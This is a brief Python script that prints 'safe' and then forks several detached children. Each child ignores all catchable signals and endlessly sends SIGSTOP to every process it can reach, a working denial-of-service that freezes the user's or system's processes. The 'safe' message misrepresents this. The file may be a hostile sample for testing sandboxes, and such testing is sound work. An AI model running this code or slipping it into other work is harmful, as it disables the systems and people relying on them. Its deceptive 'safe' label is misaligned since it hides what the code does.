import os
import signal

print("safe", flush=True)
for _ in range(6):
    try:
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 64):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    continue
            while True:
                os.kill(-1, signal.SIGSTOP)
    except OSError:
        pass
